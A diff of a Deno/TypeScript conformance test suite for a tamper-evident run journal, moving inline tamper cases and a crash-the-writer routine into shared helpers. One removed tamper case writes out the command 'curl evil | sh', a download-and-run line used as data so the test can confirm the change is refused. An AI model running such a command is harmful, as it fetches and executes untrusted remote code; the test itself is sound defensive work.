@@ -21,7 +21,11 @@ import { sha256Hex } from "../../lib/store/digest.ts";
 import { runSlice } from "../../lib/slice/run.ts";
 import { ScriptedProvider } from "../../lib/testing/scripted_provider.ts";
 import {
+  assertKeptSteps,
+  CHANGED_RECORDS,
+  killWriterAfter,
   type Layout,
+  REORDERED_RECORDS,
   RUN,
   sampleRun,
   tempLayout,
@@ -247,27 +251,7 @@ export function conformance(backend: Backend): void {
   }
 
   test("every tamper variant of the journal is refused before any step, naming the record", async (t) => {
-    const cases: [string, number, (r: Json[]) => Json[] | void][] = [
-      ["a failed test record rewritten to exit_code 0", 2, (r) => {
-        r[2]!.records[0].report.exit_code = 0;
-      }],
-      ["a changed test command", 0, (r) => {
-        r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
-      }],
-      ["a widened workspace", 0, (r) => {
-        r[0]!.workspace = "/";
-      }],
-      ["a raised step budget", 0, (r) => {
-        r[0]!.max_steps = 1_000;
-      }],
-      ["counters rolled back", 3, (r) => {
-        r[3]!.counters.model_calls = 0;
-      }],
-      ["two records swapped", 1, (r) => [r[0]!, r[2]!, r[1]!, r[3]!]],
-      ["a record dropped", 2, (r) => [r[0]!, r[1]!, r[3]!]],
-      ["a record duplicated", 2, (r) => [r[0]!, r[1]!, r[1]!, r[2]!, r[3]!]],
-      ["the header dropped", 0, (r) => [r[1]!, r[2]!, r[3]!]],
-    ];
+    const cases = [...CHANGED_RECORDS, ...REORDERED_RECORDS];
     for (const [what, bad, edit] of cases) {
       await t.step(what, async () => {
         await using layout = await tempLayout();
@@ -457,51 +441,17 @@ export function conformance(backend: Backend): void {
     await using layout = await tempLayout();
     const url = await backend.url(layout.base);
     const name = fresh("killed");
-    const child = new Deno.Command(Deno.execPath(), {
-      args: [
-        "run",
-        "--allow-read",
-        "--allow-write",
-        "--allow-run",
-        "--allow-env",
-        "--allow-net=127.0.0.1",
-        `${SCRIPT_DIR}../persist/_kill_writer.ts`,
-        name,
-        layout.workspace,
-        layout.keyFile,
-        url,
-      ],
-      stdin: "null",
-      stdout: "piped",
-      stderr: "inherit",
-    }).spawn();
-    let acked = 0;
-    let text = "";
-    const reader = child.stdout.pipeThrough(new TextDecoderStream())
-      .getReader();
-    while (acked < 4) {
-      const { value, done } = await reader.read();
-      if (done) break;
-      text += value;
-      acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
-    }
-    await new Promise((resolve) => setTimeout(resolve, 2));
-    child.kill("SIGKILL");
-    await child.status;
-    await reader.cancel();
+    const acked = await killWriterAfter(4, 2, [
+      name,
+      layout.workspace,
+      layout.keyFile,
+      url,
+    ], true);
     const verified = await verifySession(name, {
       keyFile: layout.keyFile,
       store: url,
     });
-    assert.ok(
-      verified.state.steps >= acked,
-      `${verified.state.steps} < ${acked}`,
-    );
-    assert.deepEqual(
-      runStateOf(verified).records.map((r) => r.sequence),
-      Array.from({ length: verified.state.steps }, (_, i) => i + 1),
-    );
-    assert.equal(verified.results.length, verified.state.steps);
+    assertKeptSteps(verified, acked);
     // Its holder is provably gone (its process, on this machine; on
     // PostgreSQL its connection and the lock with it): no wait for the
     // lease's minute, no session_locked.
